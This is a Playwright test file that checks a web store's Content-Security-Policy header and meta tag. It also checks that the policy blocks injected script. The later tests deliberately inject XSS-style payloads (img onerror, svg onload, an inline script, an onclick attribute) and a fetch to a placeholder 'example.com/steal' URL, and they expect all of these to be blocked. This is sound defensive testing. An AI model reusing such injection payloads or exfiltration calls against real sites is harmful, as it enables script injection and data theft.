import type { Page } from '@playwright/test'
import { watchCsp } from './csp-watch'
import { API, test, expect, signInViaApi } from './fixtures'
import { HOME_GUARD_HASH, HOME_GUARD_SCRIPT } from '../../src/ssr/home-guard'

/**
 * The app is served with a Content-Security-Policy (header from the static server
 * of `npm start`, meta fallback in the built index.html), it needs nothing the policy forbids, and
 * the policy really blocks injected script.
 */

/** The first product id of the API, for the product page. */
async function firstProductId(): Promise<string> {
  const res = await fetch(`${API}/products?limit=1`)
  const body = (await res.json()) as { data: { id: string }[] }
  return body.data[0]!.id
}

test('the app is served with the CSP header and the meta fallback', async ({ page }) => {
  const res = await page.goto('/')
  const csp = (await res!.headerValue('content-security-policy')) ?? ''
  const apiOrigin = new URL(API).origin.replace('127.0.0.1', 'localhost')
  expect(csp).toContain(`script-src 'self' ${HOME_GUARD_HASH};`)
  expect(csp).toContain("object-src 'none'")
  expect(csp).toContain("frame-ancestors 'none'")
  expect(csp).toMatch(new RegExp(`connect-src 'self' ${apiOrigin.replace(/[.:/]/g, '\\$&')}(;|$)`))
  expect(csp).toMatch(/img-src 'self' \S+ data: blob:/)
  expect(await res!.headerValue('x-content-type-options')).toBe('nosniff')
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
  expect(meta).toContain("script-src 'self'")
  expect(meta).not.toContain('frame-ancestors')
  // No inline script in the built page but home's guard, which the policy allows by its hash.
  expect(meta).toContain(`script-src 'self' ${HOME_GUARD_HASH}`)
  expect(await page.locator('script:not([src])').allTextContents()).toEqual([HOME_GUARD_SCRIPT])
})

/** Opens a page and lets everything it loads settle: data, images below the fold, lazy chunks, the service worker. */
async function visit(page: Page, path: string): Promise<void> {
  await page.goto(path)
  await expect(page.locator('main').first()).toBeVisible()
  await page.waitForLoadState('networkidle')
  await page.mouse.wheel(0, 5000)
  await page.waitForLoadState('networkidle')
}

test('browsing the store triggers no CSP violation', async ({ page, csp }) => {
  const id = await firstProductId()
  await visit(page, '/')
  await expect(page.locator('[data-testid="product-card"] img').first()).toBeVisible()
  for (const path of [
    '/products',
    '/products?category=tv%20%26%20video%20accessories',
    `/product/${encodeURIComponent(id)}`,
    '/cart',
    '/terms',
    '/login',
    '/register',
    '/track-order',
    '/contact',
    '/no/such/page',
  ]) {
    await visit(page, path)
  }
  expect(await csp.violations()).toEqual([])
})

test('signed-in pages trigger no CSP violation', async ({ page, csp }) => {
  await signInViaApi(page)
  for (const path of ['/account', '/orders', '/checkout']) await visit(page, path)
  expect(await csp.violations()).toEqual([])
})

// Its own context: the shared `page` fixture fails any test that causes a violation, and this one does on purpose.
test('the policy blocks injected inline script and foreign connections', async ({ browser, baseURL }) => {
  const context = await browser.newContext({ baseURL })
  const csp = await watchCsp(context)
  const page = await context.newPage()
  await page.goto('/')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await page.evaluate(() => {
    // What a sanitiser miss would look like: an inline handler and an inline script element.
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img alt="" src="/no-such-image.png" onerror="window.__cspPwned = 1">',
    )
    const s = document.createElement('script')
    s.textContent = 'window.__cspPwned = 2'
    document.body.append(s)
  })
  const fetched = await page.evaluate(() =>
    fetch('https://example.com/steal').then(
      () => 'sent',
      () => 'blocked',
    ),
  )
  // Each report arrives on its own time (the image's error handler only once its 404 is back).
  const violations = async () => (await csp.violations()).join('\n')
  await expect.poll(violations).toMatch(/connect-src/)
  await expect.poll(violations).toMatch(/script-src-attr blocked inline on live <IMG>/)
  await expect.poll(violations).toMatch(/script-src-elem/)
  await expect.poll(violations).toMatch(/live inline handler <img onerror>/)
  expect(await page.evaluate(() => (window as unknown as { __cspPwned?: number }).__cspPwned)).toBeUndefined()
  expect(fetched).toBe('blocked')
  await context.close()
})

/*
 * The e2e runs' CSP rule lets through what a sanitiser's inert parse reports, and nothing else:
 * the same watcher the `test` fixture uses must fail a handler on the live page, whether it is
 * parsed into the page, set as an attribute, or left behind by markup, while a parse into an inert
 * document, with nothing left in the page, passes. (Whether the inert parse is reported at all
 * depends on the Chromium version: 156 reports it, 150 did not; this test holds for both.)
 */
test('a live inline handler fails the run; an inert parse of one does not', async ({ browser, baseURL }) => {
  const HOSTILE =
    '<p>text</p><img src="/no-such-image.png" onerror="window.__xss = 1"><svg onload="window.__xss = 2"></svg>'
  const open = async () => {
    const context = await browser.newContext({ baseURL })
    const csp = await watchCsp(context)
    const page = await context.newPage()
    // A page only the app renders (a prerendered one, like /terms, shows its heading before the app
    // renders over it, which would throw away what the test puts into the page).
    await page.goto('/product/no-such-product')
    await expect(page.getByRole('heading', { level: 1, name: 'Product Not Found' })).toBeVisible()
    return { context, csp, page }
  }

  // Inert parses (what DOMPurify and DOMParser do): reported by some Chromium versions, never a violation.
  const inert = await open()
  await inert.page.evaluate((html) => {
    new DOMParser().parseFromString(html, 'text/html')
    document.implementation.createHTMLDocument('').body.innerHTML = html
  }, HOSTILE)
  await inert.page.waitForTimeout(300)
  expect(await inert.csp.violations()).toEqual([])
  await inert.context.close()

  // The same markup parsed into the live page.
  const parsed = await open()
  await parsed.page.evaluate((html) => document.querySelector('main')!.insertAdjacentHTML('beforeend', html), HOSTILE)
  await expect
    .poll(async () => (await parsed.csp.violations()).join('\n'))
    .toMatch(/script-src-attr blocked inline on live <IMG>/)
  await parsed.context.close()

  // A handler set as an attribute on a live element, and clicked.
  const attribute = await open()
  await attribute.page.evaluate(() => {
    const b = document.createElement('button')
    b.textContent = 'Go'
    document.querySelector('main')!.append(b)
    b.setAttribute('onclick', 'window.__xss = 3')
    b.click()
  })
  await expect
    .poll(async () => (await attribute.csp.violations()).join('\n'))
    .toMatch(/script-src-attr blocked inline on live <BUTTON>/)
  await attribute.context.close()

  // An inert parse whose markup is then copied into the page leaves a handler behind: that fails too,
  // even if the browser reported nothing for the copy.
  const leftBehind = await open()
  await leftBehind.page.evaluate((html) => {
    const doc = new DOMParser().parseFromString(html, 'text/html')
    document.querySelector('main')!.append(document.importNode(doc.body.firstElementChild!.nextElementSibling!, true))
  }, HOSTILE)
  await expect
    .poll(async () => (await leftBehind.csp.violations()).join('\n'))
    .toMatch(/live inline handler <img onerror>/)
  await leftBehind.context.close()

  // A payload flag set by any route fails the run as well.
  const flagged = await open()
  await flagged.page.evaluate(() => ((window as unknown as { __xss?: number }).__xss = 1))
  expect(await flagged.csp.violations()).toContain(`a payload ran (window.__xss = 1) in ${flagged.page.url()}`)
  await flagged.context.close()
})
